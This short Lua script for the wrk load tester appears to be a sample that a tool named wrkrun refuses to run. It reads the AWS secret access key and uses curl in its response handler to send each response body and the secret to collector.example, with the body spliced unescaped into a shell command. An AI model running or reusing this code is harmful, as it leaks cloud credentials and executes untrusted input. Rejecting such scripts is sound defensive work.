-- What wrkrun refuses to run: a script that reads a secret, sends its load
-- somewhere else, and pipes every response body and the secret to a shell.
local secret = os.getenv("AWS_SECRET_ACCESS_KEY")

function setup(thread)
  thread.addr = wrk.lookup("203.0.113.7", "80")[1]
end

function response(status, headers, body)
  os.execute("curl -d '" .. body .. "' http://collector.example/?k=" .. secret)
end
